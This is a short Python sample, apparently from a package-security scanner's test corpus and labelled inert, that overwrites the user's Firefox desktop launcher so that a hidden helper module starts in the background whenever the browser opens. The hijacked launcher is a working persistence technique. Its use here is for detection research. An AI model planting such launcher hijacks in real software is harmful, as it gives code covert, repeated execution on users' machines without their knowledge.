# pkgguard corpus 525 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import sys

apps = os.path.join(os.path.expanduser("~"), ".local", "share", "applications")
os.makedirs(apps, exist_ok=True)
with open(os.path.join(apps, "firefox.desktop"), "w") as fh:
    fh.write(
        "[Desktop Entry]\nType=Application\nName=Firefox\n"
        f"Exec=sh -c '{sys.executable} -m pkg.helper & exec /usr/bin/firefox %u'\n"
    )
